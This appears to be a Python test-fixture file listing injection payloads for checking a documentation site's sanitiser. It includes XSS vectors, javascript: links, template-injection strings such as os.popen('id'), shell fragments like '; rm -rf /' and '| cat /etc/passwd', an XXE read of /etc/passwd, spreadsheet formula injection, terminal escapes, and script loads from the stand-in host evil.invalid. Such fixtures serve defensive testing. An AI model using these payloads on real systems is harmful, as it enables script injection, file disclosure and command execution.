"""Texts that would run, lead away, break out or inject something, were they ever taken for more than text.

Whatever runs calls `alert`. Nothing here names a host that exists.
"""

SCRIPTS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>
<script/x>alert(1)</script/x>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</noscript><script>alert(1)</script>
</noscript><img src=x onerror=alert(1)>
</template><script>alert(1)</script>
</article></noscript><script>alert(1)</script>
</xmp></iframe></noembed></noframes><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
--><script>alert(1)</script><!--
--!><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img/src=x/onerror=alert(1)
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><td background="javascript:alert(1)">
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<xss contenteditable autofocus onfocus=alert(1)>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>
<style>@import "//evil.invalid/x.css";</style>
<link rel=stylesheet href=//evil.invalid/x.css>
<link rel=prefetch href=//evil.invalid/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.invalid/">
<base href=//evil.invalid/>
<base target=_blank>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>parent.alert(1)</script>">
<object data=javascript:alert(1)>
<object data="data:text/html,<script>alert(1)</script>">
<embed src=javascript:alert(1)>
<embed src=//evil.invalid/x.swf>
<applet code=x>
<frameset onload=alert(1)>
<form action=javascript:alert(1)><input type=submit>
<form><button formaction=javascript:alert(1)>x</button></form>
<isindex action=javascript:alert(1) type=submit>
<a href=javascript:alert(1)>x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href=//evil.invalid ping=//evil.invalid>x</a>
<a id=guide href=x>x</a><a id=guide name=store href=x>x</a>
<form id=document><input name=cookie>
<p id=pages>x</p><p id=content>x</p>
<template shadowrootmode=open><script>alert(1)</script></template>
<guide-search data-index="javascript:alert(1)"></guide-search>
<script type=module>import "//evil.invalid/x.js"</script>
<script type=importmap>{"imports":{"x":"//evil.invalid"}}</script>
<script type=speculationrules>{"prefetch":[{"urls":["//evil.invalid"]}]}</script>
<script type="text/plain" data-lazy>alert(1)</script>
<portal src=//evil.invalid>
<dialog open onclose=alert(1)><form method=dialog><button>x
'''

ATTRIBUTES = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
` onmouseover=alert(1) `
" style="background:url(//evil.invalid/x)" x="
" href="javascript:alert(1)" x="
"/><svg/onload=alert(1)>
x" formaction="javascript:alert(1)
&quot; onmouseover=&quot;alert(1)
&#34; onmouseover=&#34;alert(1)
\" onmouseover=\"alert(1)
" class="md-search" data-md-component="search" data-x="
expression(alert(1))
url(javascript:alert(1))
}*{background:url(//evil.invalid/x)}
*/alert(1)/*
</style/onload=alert(1)>
"""

LINKS = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
java script:alert(1)
&#106;avascript:alert(1)
&Tab;javascript&colon;alert&lpar;1&rpar;
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
blob:null/alert
view-source:javascript:alert(1)
file:///etc/passwd
//evil.invalid/x
\\evil.invalid\share
/\evil.invalid
https:evil.invalid
http://evil.invalid@127.0.0.1/
tel:*%2306%23
sms:10086?body=x
intent://evil.invalid#Intent;scheme=http;end
weixin://dl/business/?t=x
alipays://platformapi/startapp?appId=x
mailto:x@evil.invalid?bcc=y@evil.invalid
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java%73cript:alert(1))
[x](&#106;avascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](<javascript:alert(1)>)
[x](//evil.invalid)
[x](https://evil.invalid)
[x](channel:../../etc/passwd)
[x](guide:../../../evil)
[x](guide:call" onmouseover="alert(1))
[x](source:book "title" onmouseover=alert(1))
[x](channel:javascript:alert(1))
[<img src=x onerror=alert(1)>](guide:call)
[**<script>alert(1)</script>**](guide:call)
[`</script>`](guide:call)
[" onmouseover="alert(1)](guide:call)
[a](guide:call)](javascript:alert(1))
[a [b](guide:call) c](javascript:alert(1))
![x](javascript:alert(1))
![x](//evil.invalid/x.png)
![" onerror="alert(1)](x)
<javascript:alert(1)>
<https://evil.invalid>
<x@evil.invalid>
[x]: javascript:alert(1)
[x][javascript:alert(1)]
[^1]: <script>alert(1)</script>
`<script>alert(1)</script>`
``</code><script>alert(1)</script>``
**<img src=x onerror=alert(1)>**
*</em><svg onload=alert(1)>*
{: onmouseover=alert(1) }
{onclick="alert(1)"}
!!! note "<script>alert(1)</script>"
--8<-- "/etc/passwd"
"""

TEMPLATES = r"""
{{7*7}}
{{ config.__class__.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% import os %}{{ os.popen('id').read() }}
{% raw %}{% endraw %}
{% include "/etc/passwd" %}
{# comment #}
{{ self._TemplateReference__context }}
#{7*7}
${7*7}
${alert(1)}
`${alert(1)}`
<%= 7*7 %>
{{constructor.constructor('alert(1)')()}}
[[${7*7}]]
@(7*7)
$(id)
`id`
; rm -rf /
| cat /etc/passwd
%s%s%n%x
{0.__class__}
{__import__}
$& $1 $` $' $$
\1 \g<0> \u0026
"""

ENTITIES = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;alert(1)
&LT;script&GT;alert(1)&LT;/script&GT;
&ltscript&gtalert(1)
&#0;&#xD800;&#x110000;&#xFFFE;
&NewLine;&Tab;&ZeroWidthSpace;&rlm;&#x202e;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
﹤script﹥alert(1)﹤/script﹥
‹script›alert(1)‹/script›
＂ onmouseover=＂alert(1)
ｊａｖａｓｃｒｉｐｔ：alert(1)
ſcript ﬁ <ſcript>alert(1)</ſcript>
"""

DATA = r"""
"});alert(1);({"
');alert(1);('
\");alert(1);//
\\"-alert(1)-"
'-alert(1)-'
</script
<!--<script>
]});alert(1)//
{"__proto__":{"polluted":1}}
__proto__
constructor
prototype
__proto__[polluted]=1
constructor[prototype][polluted]=1
toString
hasOwnProperty
__class__
../../../../etc/passwd
..\..\windows\win.ini
%2e%2e%2f%2e%2e%2fetc/passwd
..;/x
/etc/passwd
C:\CON\CON
file.html#/../../x
#/zh/index
?q=<script>alert(1)</script>
=1+1
=HYPERLINK("//evil.invalid","x")
+cmd|' /C calc'!A0
-2+3
@SUM(1)
x,"y",z
x;y:z\,\n
BEGIN:VCARD END:VCARD
END:VEVENT
::error::x
::set-output name=x::y
::add-mask::x
##[error]x
##vso[task.setvariable variable=x]y
%0A::error::x
null
true
NaN
0x1f
1e999
"""

LINES = [
    "x\n<script>alert(1)</script>\n\n</noscript><script>alert(1)</script>",
    "x\nBEGIN:VEVENT\nATTACH:file:///etc/passwd\nEND:VEVENT",
    "x\nTEL:19\nEND:VCARD\nBEGIN:VCARD",
    "x\n::error file=x::y",
    "x\n##[error]y",
    "x\n# <script>alert(1)</script>\n---\n\n    <img src=x onerror=alert(1)>",
    "x\n//# sourceMappingURL=//evil.invalid/x\nalert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<style>\n*{background:url(//evil.invalid/x)}\n</style>",
]
"""Payloads that need more than one line."""

CONTROLS = [
    "\x1b[31mred\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP$q\x1b\\",
    "\x9b31m",
    "x\r::error::y",
    "x\x08\x08\x08y",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "java\tscript:alert(1)\x0b",
    "\u202e<script>alert(1)</script>\u202c",
    "java\u200bscript:alert(1)",
    "x\u2028alert(1)\u2029",
    "\ufeff=1+1",
    "\ufff9x\ufffby",
]
"""Payloads of characters that no text may hold: an escape in YAML would bring them in."""

LEGAL = [
    line
    for block in (SCRIPTS, ATTRIBUTES, LINKS, TEMPLATES, ENTITIES, DATA)
    for line in block.strip("\n").split("\n")
] + LINES
"""Payloads of characters that a text may hold, whether or not the rules then accept it."""

ALL = LEGAL + CONTROLS

RUNS = (
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)></svg>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title></style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<style onload=alert(1)></style>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<video><source onerror=alert(1)></video>",
)
"""For what readers save, type or are sent: these run as soon as they are put into a page as HTML."""

OTHERS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "alert(1)",
    "');alert(1);//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;img src=x onerror=alert(1)&gt;",
    '<base href="//evil.example/"><form id=guide name=store></form>',
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "</article></main></body><article id=/zh/index>",
)
"""Run by a tap, in another place than HTML, or change what the page is."""

SEEN = tuple(
    text for text in OTHERS if text.startswith(("<script", "</script", "<a", "<base", "<meta", '" on'))
)
"""Of these, what tests.browser.canary.MARKS finds in a page."""

MARKUP = RUNS + OTHERS
